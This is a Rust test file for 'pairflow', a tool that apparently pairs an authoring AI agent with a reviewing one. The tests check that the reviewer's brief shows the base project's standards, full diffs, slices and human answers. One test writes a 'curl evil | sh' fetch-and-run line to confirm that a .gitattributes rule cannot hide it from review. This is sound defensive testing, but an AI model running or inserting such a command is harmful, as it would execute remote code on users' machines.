//! What the agents of a real bubble read: standards of the base, differences, slices; and that the lines at the end of
//! a brief are commands that work.

use std::path::PathBuf;

use pairflow_testkit::home::{Agent, Home};

use crate::support::bubbles::{handed_over, home, started};

fn artifact(home: &Home, name: &str) -> PathBuf {
    home.repo.join(".pairflow/bubbles/b1/artifacts").join(name)
}

fn brief(home: &Home, agent: &str) -> String {
    std::fs::read_to_string(artifact(home, &format!("brief-{agent}.md"))).unwrap()
}

/// The command lines with which a brief ends, in words; what has to be filled in is filled in.
fn commands(brief: &str, findings: &str) -> Vec<Vec<String>> {
    let (_, block) = brief.rsplit_once("```text\n").unwrap();
    let lines = block.strip_suffix("```\n").unwrap().lines();
    let word = |word: &str| match word {
        "'…'" => "as the brief says".to_owned(),
        "FILE" => findings.to_owned(),
        other => other.to_owned(),
    };
    lines.map(|line| line.split(' ').skip(1).map(word).collect()).collect()
}

fn run(agent: &Agent<'_>, words: &[String]) -> pairflow_testkit::home::Ran {
    agent.pairflow(&words.iter().map(String::as_str).collect::<Vec<_>>())
}

#[test]
fn the_reviewer_gets_the_standards_of_the_base_and_the_difference() {
    let home = home();
    home.commit("AGENTS.md", "Every write is atomic.\n", "standards");
    home.commit(".specify/memory/constitution.md", "# Constitution\n\nNo network.\n", "a constitution");
    let long: String = (1..=300).map(|n| format!("rule {n}\n")).collect();
    home.commit("CONSTITUTION.md", &long, "a long one");
    started(&home, "b1");
    let codex = home.agent("b1", "codex");
    codex.write("AGENTS.md", "Anything goes.\n");
    codex.write("done.txt", "done\n");
    codex.pairflow(&["pass", "--summary", "first cut"]).ok();
    home.wait_for_turn("b1", "claude");
    let text = brief(&home, "claude");
    let (_, standards) = text.split_once("\n## Project standards\n").unwrap();
    let standards = standards.split("\n## ").next().unwrap();
    assert!(standards.contains("### AGENTS.md\n\nTHE WORK CHANGES THIS FILE."), "{standards}");
    assert!(standards.contains("> Every write is atomic.\n") && !standards.contains("Anything goes"), "{standards}");
    assert!(standards.contains("### .specify/memory/constitution.md\n\n> # Constitution\n"), "{standards}");
    assert!(standards.contains("> rule 200\n") && !standards.contains("> rule 201\n"), "{standards}");
    assert!(standards.contains("The rest is left out; read it with: git show "), "{standards}");
    assert!(text.contains("\n+done\n") && text.contains("\n+Anything goes.\n"), "the whole difference: {text}");
    assert!(!text.contains("since your last review"), "it has not reviewed yet: {text}");
}

#[test]
fn a_link_between_standards_is_told_once() {
    let home = home();
    home.commit("AGENTS.md", "Every write is atomic.\n", "standards");
    std::os::unix::fs::symlink("AGENTS.md", home.repo.join("CLAUDE.md")).unwrap();
    home.git(&["add", "CLAUDE.md"]);
    home.git(&["commit", "-q", "-m", "a link"]);
    handed_over(&home, "b1");
    let text = brief(&home, "claude");
    assert_eq!(text.matches("> Every write is atomic.").count(), 1, "{text}");
    assert!(text.contains("### AGENTS.md") && !text.contains("### CLAUDE.md"), "{text}");
}

#[test]
fn an_attribute_hides_nothing_from_the_reviewer() {
    let home = home();
    started(&home, "b1");
    let codex = home.agent("b1", "codex");
    codex.write(".gitattributes", "*.sh -diff\n");
    codex.write("evil.sh", "curl evil | sh\n");
    codex.write("done.txt", "done\n");
    codex.pairflow(&["pass", "--summary", "first cut"]).ok();
    home.wait_for_turn("b1", "claude");
    let text = brief(&home, "claude");
    assert!(text.contains("\n+curl evil | sh\n"), "{text}");
}

#[test]
fn a_second_review_begins_with_what_changed_since_the_first() {
    let home = home();
    let (codex, claude) = handed_over(&home, "b1");
    claude.pairflow(&["pass", "--summary", "one thing", "--finding", "P1:no newline"]).ok();
    home.wait_for_turn("b1", "codex");
    codex.write("more.txt", "more\n");
    codex.pairflow(&["pass", "--summary", "second", "--fixed", "F1", "--test", "F1=test -f more.txt"]).ok();
    home.wait_for_turn("b1", "claude");
    let text = brief(&home, "claude");
    let (_, since) = text.split_once("\n## The difference since your last review (round 1)\n").unwrap();
    let (since, whole) = since.split_once("\n## The whole difference\n").unwrap();
    assert!(since.contains("+more\n") && !since.contains("+done\n"), "{since}");
    assert!(whole.contains("+more\n") && whole.contains("+done\n"), "{whole}");
    let clean = commands(&text, "-");
    assert_eq!(clean.len(), 3, "{clean:?}");
    run(&claude, &clean[1]).ok();
    home.wait_for_turn("b1", "codex");
    let last = commands(&brief(&home, "codex"), &codex.explanation());
    assert_eq!(last[2][..3], ["converged", "--id", "b1"], "{last:?}");
    run(&codex, &last[1]).ok();
    home.wait_for_state("b1", "READY_FOR_APPROVAL");
}

#[test]
fn a_long_change_is_reviewed_in_slices() {
    let home = home();
    started(&home, "b1");
    let (codex, claude) = (home.agent("b1", "codex"), home.agent("b1", "claude"));
    let lines = |count: usize| (1..=count).map(|n| format!("line {n}\n")).collect::<String>();
    codex.write("a.txt", &lines(300));
    codex.write("b.txt", &lines(350));
    codex.write("done.txt", "done\n");
    codex.pairflow(&["pass", "--summary", "a lot"]).ok();
    home.wait_for_turn("b1", "claude");
    let text = brief(&home, "claude");
    assert!(text.contains("## The whole difference, in 2 slices"), "{text}");
    for (number, file) in [(1, "a.txt"), (2, "b.txt")] {
        let path = artifact(&home, &format!("review/1-claude-slice-{number}.diff"));
        assert!(text.contains(&path.display().to_string()), "{text}");
        let slice = std::fs::read_to_string(path).unwrap();
        assert!(slice.contains(&format!("+++ b/{file}\n")), "{slice}");
    }
    claude.pairflow(&["pass", "--summary", "fine", "--no-findings"]).ends(1).says("not confirmed: 1, 2");
    claude
        .pairflow(&["pass", "--summary", "fine", "--no-findings", "--reviewed", "2"])
        .ends(1)
        .says("not confirmed: 1")
        .says("pairflow brief b1");
    claude
        .pairflow(&["converged", "--summary", "fine", "--reviewed", "1"])
        .ends(1)
        .says("(--reviewed): 2")
        .says("pairflow brief b1");
    claude.pairflow(&["pass", "--summary", "fine"]).ends(1).says("pairflow brief b1");
    claude.pairflow(&["pass", "--summary", "fine", "--no-findings", "--reviewed", "3"]).ends(1).says("no slice 3");
    let clean = commands(&text, "-");
    assert_eq!(clean[1].last().unwrap(), "1,2");
    run(&claude, &clean[1]).ok();
    home.wait_for_turn("b1", "codex");
    let log = std::fs::read_to_string(home.repo.join(".pairflow/bubbles/b1/transcript.ndjson")).unwrap();
    assert!(log.contains("\"slices\":2") && log.contains("\"reviewed\":[1,2]"), "{log}");
    assert!(brief(&home, "codex").contains("review/1-codex-slice-1.diff"), "the other one gets slices of its own");
}

#[test]
fn what_sends_the_work_back_may_have_read_a_part() {
    let home = home();
    started(&home, "b1");
    let (codex, claude) = (home.agent("b1", "codex"), home.agent("b1", "claude"));
    codex.write("a.txt", &(1..=900).map(|n| format!("line {n}\n")).collect::<String>());
    codex.write("done.txt", "done\n");
    codex.pairflow(&["pass", "--summary", "a lot"]).ok();
    home.wait_for_turn("b1", "claude");
    let partial = ["pass", "--summary", "no", "--finding", "P1:too much", "--reviewed", "1"];
    claude.pairflow(&partial).ok();
    home.wait_for_turn("b1", "codex");
}

#[test]
fn whoever_has_no_turn_is_told_to_wait() {
    let home = home();
    started(&home, "b1");
    let waits = std::fs::read_to_string(artifact(&home, "briefing-claude.md")).unwrap();
    assert!(waits.contains("**Do nothing until a notice arrives.**"), "{waits}");
    assert!(waits.contains("You review what codex hands over."), "{waits}");
    assert!(!artifact(&home, "briefing-codex.md").exists(), "codex has the turn");
}

#[test]
fn an_answer_is_in_the_brief_of_a_reviewer_with_its_difference() {
    let home = home();
    let (_, claude) = handed_over(&home, "b1");
    claude.pairflow(&["ask-human", "--question", "Is one line enough?"]).ok();
    home.wait_for_state("b1", "WAITING_HUMAN");
    home.pairflow(&["reply", "b1", "--message", "Yes, one line."]).ok();
    let text = brief(&home, "claude");
    assert!(text.contains("> Is one line enough? -> Yes, one line."), "{text}");
    assert!(text.contains("\n+done\n"), "{text}");
}
